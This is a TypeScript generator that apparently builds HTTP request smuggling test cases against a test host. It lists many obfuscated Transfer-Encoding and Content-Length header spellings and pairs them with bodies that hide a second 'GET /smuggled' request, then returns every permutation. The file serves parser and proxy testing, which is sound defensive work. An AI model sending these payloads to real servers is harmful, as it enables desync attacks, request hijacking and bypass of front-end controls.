// The oldest way to make two servers disagree: Content-Length and Transfer-Encoding together or alone, in every spelling,
// order and position, over a body that ends in different places for those who believe the one or the other.

const TRANSFER_ENCODINGS: readonly string[] = [
  'Transfer-Encoding: chunked',
  'transfer-encoding: CHUNKED',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked ',
  'Transfer-Encoding: chunked\t',
  'Transfer-Encoding:  chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  ' Transfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding: \xffchunked',
  'Transfer-Encoding: cow',
  'Transfer-Encoding:',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: chunked\nX: x',
  'X: x\nTransfer-Encoding: chunked',
  'X: x\rTransfer-Encoding: chunked',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'X-Transfer-Encoding: chunked',
];

/** `#` stands for the length. */
const CONTENT_LENGTHS: readonly string[] = [
  'Content-Length: #',
  'content-length:#',
  'Content-Length: #\t',
  'Content-Length: 0#',
  'Content-Length : #',
  'Content_Length: #',
  'Content-Length: +#',
  'Content-Length: #,#',
  'Content-Length: # #',
  'Content-Length: 0x#',
  'Content-Length: #\r\nContent-Length: #',
  'Content-Length: #\r\nContent-Length: 0',
  'Content-Length: 0\r\nContent-Length: #',
  'Content-Length:\r\n #',
  'Content-Length: #\nX: x',
];

const HIDDEN = 'GET /smuggled HTTP/1.1\r\nHost: wire.test\r\n\r\n';

interface Body {
  readonly text: string;
  /** The length to announce. */
  readonly length: number;
}

/** Whole by the length with a request behind the last chunk, whole by the chunks with a request behind the length. */
const BODIES: readonly Body[] = [
  { text: `0\r\n\r\n${HIDDEN}`, length: 5 + HIDDEN.length },
  { text: `${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`, length: 4 },
];

/** Requests as latin1 text; the same list every time. */
export function permutations(): string[] {
  const requests: string[] = [];
  for (const { text, length } of BODIES) {
    const lengths = CONTENT_LENGTHS.map((line) => line.replaceAll('#', String(length)));
    const alone = [...lengths, ...TRANSFER_ENCODINGS].map((line) => [line]);
    const together = lengths.flatMap((cl) =>
      TRANSFER_ENCODINGS.flatMap((te) => [
        [cl, te],
        [te, cl],
      ]),
    );
    for (const [index, lines] of [...alone, ...together].entries()) {
      // The Host first, between or last, by turns; HTTP/1.0 for every seventh.
      const fields = [...lines];
      fields.splice(index % (lines.length + 1), 0, 'Host: wire.test');
      const version = index % 7 === 6 ? '1.0' : '1.1';
      requests.push(`POST /a HTTP/${version}\r\n${fields.join('\r\n')}\r\n\r\n${text}`);
    }
  }
  return requests;
}
